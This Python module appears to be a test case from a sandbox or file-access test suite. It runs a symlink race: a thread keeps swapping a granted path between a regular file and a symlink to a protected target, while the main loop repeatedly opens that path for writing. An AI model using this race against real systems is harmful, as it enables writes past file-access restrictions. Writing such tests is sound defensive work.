"""A file that becomes a symbolic link while it is opened."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"]}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    link, other = HOME + "/link", HOME + "/other"
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            open(other, "w").close()
            os.replace(other, link)
            os.symlink(payload.TARGET, other)
            os.replace(other, link)

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            open(link, "w").close()
        except OSError:
            pass
    thread.join()
